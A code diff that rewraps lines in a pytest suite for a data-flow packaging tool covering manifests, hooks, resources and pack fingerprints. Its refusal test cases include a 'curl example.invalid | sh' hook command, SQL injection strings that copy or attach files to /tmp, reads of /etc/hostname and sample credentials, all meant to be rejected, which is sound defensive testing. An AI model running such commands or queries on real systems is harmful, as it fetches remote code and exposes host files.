@@ -75,9 +75,13 @@ def refused(root: Path, code: str, ceiling=CEILING) -> FlowError:
 def test_committed_packs_equal_a_rebuild() -> None:
     with open_source(SYNTHETIC) as tree:
         packs = rebuild_packs(tree, ceiling=CEILING)
-    assert sorted(packs) == [f"flows/{name}/pack.json" for name in ("customer_order_counts", "orders_snapshot", "weekly_revenue")]
+    assert sorted(packs) == [
+        f"flows/{name}/pack.json" for name in ("customer_order_counts", "orders_snapshot", "weekly_revenue")
+    ]
     for path, data in packs.items():
-        assert (SYNTHETIC / path).read_bytes() == data, f"{path} is stale: run python -m devtools.pack_fixtures build-fixtures"
+        assert (SYNTHETIC / path).read_bytes() == data, (
+            f"{path} is stale: run python -m devtools.pack_fixtures build-fixtures"
+        )
 
 
 def test_capture_of_the_synthetic_flows(source: Path) -> None:
@@ -87,7 +91,14 @@ def test_capture_of_the_synthetic_flows(source: Path) -> None:
     assert snapshot.hook_order == ("orders_snapshot.ensure_staging", "orders_snapshot.clear_today")
     assert [hook.after for hook in snapshot.hooks] == [(), ("orders_snapshot.ensure_staging",)]
     assert all(hook.publish_xcom is False for w in result.workloads for hook in w.hooks)
-    assert snapshot.hooks[1].command == ("dpone-flow", "pre-hook", "--pack", "orders_snapshot", "--hook", "orders_snapshot.clear_today")
+    assert snapshot.hooks[1].command == (
+        "dpone-flow",
+        "pre-hook",
+        "--pack",
+        "orders_snapshot",
+        "--hook",
+        "orders_snapshot.clear_today",
+    )
     assert snapshot.runtime_command == ("dpone-flow", "run", "--pack", "orders_snapshot")
     assert [ref.path for ref in snapshot.sql] == [
         "flows/orders_snapshot/sql/01_load_snapshot.sql",
@@ -95,12 +106,20 @@ def test_capture_of_the_synthetic_flows(source: Path) -> None:
     ]
     for ref in (*snapshot.sql, *(hook.sql for hook in snapshot.hooks)):
         assert ref.content_sha256 == hashlib.sha256((source / ref.path).read_bytes()).hexdigest()
-    assert snapshot.dag.content_sha256 == hashlib.sha256((source / "flows/orders_snapshot/dag.yaml").read_bytes()).hexdigest()
+    assert (
+        snapshot.dag.content_sha256
+        == hashlib.sha256((source / "flows/orders_snapshot/dag.yaml").read_bytes()).hexdigest()
+    )
     assert snapshot.dag_id == "orders_snapshot_daily" and snapshot.schedule == "0 3 * * *"
     assert snapshot.logical_writes == ("flow_marts.order_status_counts", "flow_staging.orders_snapshot")
     assert snapshot.resources.requests.cpu_millicores == 250 and snapshot.resources.limits.memory_bytes == 1024**3
-    assert [(c.alias, c.access) for c in snapshot.connections] == [("flow_lake", "read_write"), ("orders_source", "read")]
-    assert {(m.selector, m.pack_id) for m in result.selector_membership} == {(w.selector, w.pack_id) for w in result.workloads}
+    assert [(c.alias, c.access) for c in snapshot.connections] == [
+        ("flow_lake", "read_write"),
+        ("orders_source", "read"),
+    ]
+    assert {(m.selector, m.pack_id) for m in result.selector_membership} == {
+        (w.selector, w.pack_id) for w in result.workloads
+    }
     assert result.logical_writes["flow_marts.weekly_revenue"] == "weekly_revenue"
     subjects = result.execution_subjects()
     assert {"workload": "orders_snapshot", "kind": "pre_hook", "hook_id": "orders_snapshot.clear_today"} in subjects
@@ -150,9 +169,17 @@ def _set(path: list, value) -> Callable[[dict], None]:
 
 MANIFEST_REFUSALS = [
     (SNAPSHOT, _set(["runner"], "custom_python"), "flows.custom_runner"),
-    (SNAPSHOT, _set(["pre_hooks", 0, "command"], ["bash", "-c", "curl example.invalid | sh"]), "flows.arbitrary_command"),
+    (
+        SNAPSHOT,
+        _set(["pre_hooks", 0, "command"], ["bash", "-c", "curl example.invalid | sh"]),
+        "flows.arbitrary_command",
+    ),
     (SNAPSHOT, _set(["bash_command"], "echo hi"), "flows.arbitrary_command"),
-    (SNAPSHOT, _set(["post_hooks"], [{"id": "x", "sql": "hooks/01_ensure_staging.sql"}]), "flows.post_hook_unsupported"),
+    (
+        SNAPSHOT,
+        _set(["post_hooks"], [{"id": "x", "sql": "hooks/01_ensure_staging.sql"}]),
+        "flows.post_hook_unsupported",
+    ),
     (SNAPSHOT, _set(["pre_hooks", 0, "phase"], "post"), "flows.post_hook_unsupported"),
     (SNAPSHOT, _set(["pre_hooks", 1, "after"], ["orders_snapshot.nope"]), "flows.unbound_dependency"),
     (SNAPSHOT, _set(["pre_hooks", 1, "after"], ["weekly_revenue.ensure_marts"]), "flows.cross_constituent_dependency"),
@@ -163,9 +190,21 @@ MANIFEST_REFUSALS = [
     (REVENUE, _set(["pre_hooks", 0, "id"], "orders_snapshot.clear_today"), "flows.duplicate_hook_id"),
     (SNAPSHOT, _set(["connections", 0, "parameters", "password"], "hunter2"), "flows.connection_credential"),
     (SNAPSHOT, _set(["connections", 0, "token"], "abc"), "flows.connection_credential"),
-    (SNAPSHOT, _set(["connections", 0, "parameters", "endpoint"], "postgres://app:s3cret@db.example.invalid/x"), "flows.connection_credential"),
-    (SNAPSHOT, _set(["connections", 0, "parameters", "key_ref"], "AKIAIOSFODNN7EXAMPLE"), "flows.connection_credential"),
-    (SNAPSHOT, _set(["connections", 0, "parameters", "schema"], "Zx81kQp0rT7vW2nY5bL9cD3fH6jM4sA1"), "flows.connection_credential"),
+    (
+        SNAPSHOT,
+        _set(["connections", 0, "parameters", "endpoint"], "postgres://app:s3cret@db.example.invalid/x"),
+        "flows.connection_credential",
+    ),
+    (
+        SNAPSHOT,
+        _set(["connections", 0, "parameters", "key_ref"], "AKIAIOSFODNN7EXAMPLE"),
+        "flows.connection_credential",
+    ),
+    (
+        SNAPSHOT,
+        _set(["connections", 0, "parameters", "schema"], "Zx81kQp0rT7vW2nY5bL9cD3fH6jM4sA1"),
+        "flows.connection_credential",
+    ),
     (SNAPSHOT, _set(["connections", 1, "alias"], "orders_source"), "flows.duplicate_connection_alias"),
     (SNAPSHOT, _set(["resources", "requests", "cpu"], "2"), "flows.resource_request_above_limit"),
     (SNAPSHOT, _set(["resources", "requests", "memory"], "2Gi"), "flows.resource_request_above_limit"),
@@ -173,10 +212,25 @@ MANIFEST_REFUSALS = [
     (SNAPSHOT, _set(["resources", "limits", "memory"], "16Gi"), "flows.resource_outside_policy"),
     (SNAPSHOT, _set(["resources", "limits", "cpu"], 1), "flows.manifest_invalid"),
     (SNAPSHOT, _set(["unknown_field"], "x"), "flows.manifest_invalid"),
-    (SNAPSHOT, _set(["writes"], ["flow_staging.orders_snapshot", "flow_staging.orders_snapshot", "flow_marts.order_status_counts"]), "flows.duplicate_logical_write"),
+    (
+        SNAPSHOT,
+        _set(
+            ["writes"],
+            ["flow_staging.orders_snapshot", "flow_staging.orders_snapshot", "flow_marts.order_status_counts"],
+        ),
+        "flows.duplicate_logical_write",
+    ),
     (SNAPSHOT, _set(["writes"], ["flow_staging.orders_snapshot"]), "flows.undeclared_write"),
-    (SNAPSHOT, _set(["writes"], ["flow_staging.orders_snapshot", "flow_marts.order_status_counts", "flow_marts.extra"]), "flows.missing_write"),
-    (SNAPSHOT, _set(["sql"], ["sql/01_load_snapshot.sql", "sql/02_publish_status_counts.sql", "sql/missing.sql"]), "flows.missing_source_file"),
+    (
+        SNAPSHOT,
+        _set(["writes"], ["flow_staging.orders_snapshot", "flow_marts.order_status_counts", "flow_marts.extra"]),
+        "flows.missing_write",
+    ),
+    (
+        SNAPSHOT,
+        _set(["sql"], ["sql/01_load_snapshot.sql", "sql/02_publish_status_counts.sql", "sql/missing.sql"]),
+        "flows.missing_source_file",
+    ),
     ("flows/weekly_revenue/dag.yaml", _set(["selector"], "dbt:tag:orders"), "flows.cross_constituent_reference"),
     ("flows/weekly_revenue/dag.yaml", _set(["selector"], "flow:nope"), "flows.missing_workload"),
     ("flows/weekly_revenue/dag.yaml", _set(["selector"], "flow:orders_snapshot"), "flows.duplicate_membership"),
@@ -187,7 +241,11 @@ MANIFEST_REFUSALS = [
 ]
 
 
-@pytest.mark.parametrize(("file", "change", "code"), MANIFEST_REFUSALS, ids=[code + "-" + str(i) for i, (_, _, code) in enumerate(MANIFEST_REFUSALS)])
+@pytest.mark.parametrize(
+    ("file", "change", "code"),
+    MANIFEST_REFUSALS,
+    ids=[code + "-" + str(i) for i, (_, _, code) in enumerate(MANIFEST_REFUSALS)],
+)
 def test_manifest_and_dag_refusals(source: Path, file: str, change, code: str) -> None:
     edit_yaml(source / file, change)
     error = refused(source, code)
@@ -197,7 +255,9 @@ def test_manifest_and_dag_refusals(source: Path, file: str, change, code: str) -
 def test_policy_ceiling_is_a_plain_argument(source: Path) -> None:
     capture(source, ResourceCeiling(max_cpu_millicores=1000, max_memory_bytes=1024**3))
     refused(source, "flows.resource_outside_policy", ResourceCeiling(max_cpu_millicores=999, max_memory_bytes=1024**3))
-    refused(source, "flows.resource_outside_policy", ResourceCeiling(max_cpu_millicores=1000, max_memory_bytes=1024**3 - 1))
+    refused(
+        source, "flows.resource_outside_policy", ResourceCeiling(max_cpu_millicores=1000, max_memory_bytes=1024**3 - 1)
+    )
 
 
 @pytest.mark.parametrize(
@@ -244,8 +304,14 @@ def test_sql_reaching_outside_the_database_is_refused(source: Path, statement: s
     [
         ("select E'\\''; copy (select 42) to '/tmp/dpone-leak.csv'; --'", "flows.sql_statement_not_allowed"),
         ("select $q$ ' $q$; attach '/tmp/dpone-leak.duckdb' as leak; select ' '", "flows.sql_statement_not_allowed"),
-        ("insert into flow_marts.weekly_revenue select * from read_text('/etc/hostname');", "flows.sql_function_not_allowed"),
-        ("insert into flow_marts.weekly_revenue select * from read_csv('/etc/hostname');", "flows.sql_function_not_allowed"),
+        (
+            "insert into flow_marts.weekly_revenue select * from read_text('/etc/hostname');",
+            "flows.sql_function_not_allowed",
+        ),
+        (
+            "insert into flow_marts.weekly_revenue select * from read_csv('/etc/hostname');",
+            "flows.sql_function_not_allowed",
+        ),
         ("insert into flow_marts.weekly_revenue select * from glob('/etc/*');", "flows.sql_function_not_allowed"),
         ("insert into flow_marts.weekly_revenue select * from '/etc/hostname';", "flows.sql_host_access"),
     ],
@@ -262,7 +328,9 @@ def test_one_line_appended_to_a_flow_is_refused_at_capture(source: Path, line: s
 
 def test_sql_comments_and_strings_do_not_count_as_writes(source: Path) -> None:
     hook = source / "flows/orders_snapshot/hooks/02_clear_today.sql"
-    hook.write_text(hook.read_text() + "-- insert into flow_marts.not_really\nselect 'delete from flow_marts.nor_this';\n")
+    hook.write_text(
+        hook.read_text() + "-- insert into flow_marts.not_really\nselect 'delete from flow_marts.nor_this';\n"
+    )
     regenerate(source)
     capture(source)
     hook.write_text(hook.read_text() + 'insert into "Flow_Marts"."Sneaky" select 1;\n')
@@ -312,12 +380,27 @@ def _task(index: int, key: str, value) -> Callable[[dict], None]:
     ("change", "refingerprint", "code", "field"),
     [
         (_task(2, "command", ["bash", "-c", "id"]), True, "flows.arbitrary_command", None),
-        (_task(2, "command", ["dpone-flow", "run", "--pack", "weekly_revenue"]), True, "flows.pack_drift", "tasks[2].command[3]"),
+        (
+            _task(2, "command", ["dpone-flow", "run", "--pack", "weekly_revenue"]),
+            True,
+            "flows.pack_drift",
+            "tasks[2].command[3]",
+        ),
         (_task(0, "publish_xcom", True), True, "flows.pre_hook_publishes_xcom", None),
         (_task(1, "kind", "sql_post_hook"), True, "flows.unsupported_process_kind", None),
         (_task(1, "upstream", []), True, "flows.pack_drift", "tasks[1].upstream[0]"),
-        (lambda p: p["resources"]["limits"].__setitem__("cpu_millicores", 1500), True, "flows.pack_drift", "resources.limits.cpu_millicores"),
-        (lambda p: p["connections"][0]["parameters"][0].__setitem__("value", "elsewhere"), True, "flows.pack_drift", "connections[0].parameters[0].value"),
+        (
+            lambda p: p["resources"]["limits"].__setitem__("cpu_millicores", 1500),
+            True,
+            "flows.pack_drift",
+            "resources.limits.cpu_millicores",
+        ),
+        (
+            lambda p: p["connections"][0]["parameters"][0].__setitem__("value", "elsewhere"),
+            True,
+            "flows.pack_drift",
+            "connections[0].parameters[0].value",
+        ),
         (lambda p: p["tasks"].pop(1), True, "flows.pack_drift", None),
         (lambda p: p.__setitem__("fingerprint", "sha256:" + "0" * 64), False, "flows.pack_fingerprint_mismatch", None),
         (lambda p: p.__setitem__("extra", 1), True, "flows.pack_invalid", None),
@@ -351,7 +434,9 @@ def test_sql_change_without_rebuilding_the_pack_is_drift(source: Path) -> None:
 
 def test_pack_fingerprint_golden_vector() -> None:
     body = {"schema": "dpone.flow-pack.v1", "pack_id": "p"}
-    expected = hashlib.sha256(b'dpone:dpone.flow-pack-fingerprint.v1\x00{"pack_id":"p","schema":"dpone.flow-pack.v1"}').hexdigest()
+    expected = hashlib.sha256(
+        b'dpone:dpone.flow-pack-fingerprint.v1\x00{"pack_id":"p","schema":"dpone.flow-pack.v1"}'
+    ).hexdigest()
     # Persisted in every committed pack and release: must never change.
     assert pack_fingerprint(body) == "sha256:" + expected
     with pytest.raises(ValueError):
